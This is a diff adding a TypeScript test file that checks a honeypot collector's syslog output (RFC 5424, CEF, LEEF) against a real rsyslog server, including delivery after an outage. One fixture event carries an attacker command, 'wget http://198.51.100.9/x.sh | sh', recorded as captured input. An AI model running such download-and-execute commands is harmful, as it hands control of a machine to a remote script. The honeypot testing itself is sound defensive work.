@@ -1,0 +1,58 @@
+import { describe, expect, test } from "bun:test";
+import { startTestCore, tempDir } from "../helpers";
+import { failedAtLeast, numbered, outputStatus, sendEvents, waitFor } from "../helpers/outputs";
+import { Rsyslog } from "../helpers/rsyslog";
+
+const FAST_RETRY = { min_backoff_ms: 20, max_backoff_ms: 100 };
+
+describe("syslog output against a real rsyslogd", () => {
+  test("TCP: rsyslog parses each RFC 5424 message; while it is down nothing is lost, and after it is back each event arrives once", async () => {
+    using dir = tempDir();
+    await using rsyslog = await new Rsyslog(dir.path).start();
+    await using core = await startTestCore({
+      outputs: [{ name: "siem", type: "syslog", host: "127.0.0.1", port: rsyslog.tcpPort, protocol: "tcp", format: "json", hostname: "core-1", batch_size: 4, retry: FAST_RETRY }],
+    });
+    const seqs = () => rsyslog.lines().map((l) => JSON.parse(l.msg).data.seq);
+
+    await sendEvents(core, numbered(1, 5, { username: "root", password: "123456" }));
+    await waitFor(() => seqs().length >= 5, "5 messages in rsyslog's file");
+    const first = rsyslog.lines()[0]!;
+    // local0 (16) * 8 + informational (6)
+    expect({ ...first, msg: JSON.parse(first.msg) }).toMatchObject({
+      pri: "134",
+      hostname: "core-1",
+      app: "honeybee",
+      procid: "ssh-01",
+      msgid: "cowrie.login.failed",
+      msg: { event_type: "cowrie.login.failed", pot_id: "ssh-01", src_ip: "203.0.113.7", data: { seq: 1, username: "root", password: "123456" } },
+    });
+    expect(first.sd).toMatch(/^\[honeybee@32473 event_id="\d+" pot_id="ssh-01" pot_type="cowrie" src_ip="203\.0\.113\.7"\]$/);
+
+    await rsyslog.stop();
+    await sendEvents(core, numbered(6, 10));
+    await failedAtLeast(core, "siem", 2);
+    await rsyslog.start();
+    await waitFor(() => seqs().length >= 15, "the 10 events sent while rsyslog was down");
+    await waitFor(async () => (await outputStatus(core, "siem")).lag === 0, "lag 0");
+    expect(seqs()).toEqual(Array.from({ length: 15 }, (_, i) => i + 1));
+  });
+
+  test("UDP with CEF and LEEF payloads", async () => {
+    using dir = tempDir();
+    await using rsyslog = await new Rsyslog(dir.path).start();
+    await using core = await startTestCore({
+      outputs: [
+        { name: "cef", type: "syslog", host: "127.0.0.1", port: rsyslog.udpPort, protocol: "udp", format: "cef", event_types: ["cowrie.command.*"] },
+        { name: "leef", type: "syslog", host: "127.0.0.1", port: rsyslog.tcpPort, protocol: "tcp", format: "leef", event_types: ["cowrie.command.*"] },
+      ],
+    });
+    await sendEvents(core, [{ eventid: "cowrie.command.input", input: "wget http://198.51.100.9/x.sh | sh", src_port: 40022 }]);
+    const lines = await waitFor(() => (rsyslog.lines().length >= 2 ? rsyslog.lines() : null), "a CEF and a LEEF message");
+    const cef = lines.find((l) => l.msg.startsWith("CEF:"))!;
+    const leef = lines.find((l) => l.msg.startsWith("LEEF:"))!;
+    expect(cef.msg).toMatch(/^CEF:0\|HoneyBee\|HoneyBee Core\|[^|]+\|cowrie\.command\.input\|cowrie\.command\.input\|4\|rt=\d+ src=203\.0\.113\.7 spt=40022 /);
+    expect(cef.msg).toContain("cs4Label=command cs4=wget http://198.51.100.9/x.sh | sh");
+    // rsyslog shows the LEEF tab separators as #011 (its control-character escape).
+    expect(leef.msg.replace(/#011/g, "\t")).toMatch(/^LEEF:2\.0\|HoneyBee\|HoneyBee Core\|[^|]+\|cowrie\.command\.input\|x09\|devTime=\d+\tdevTimeFormat=epoch\tcat=cowrie\.command\.input\tsev=4\tsrc=203\.0\.113\.7\tsrcPort=40022\t/);
+  });
+});
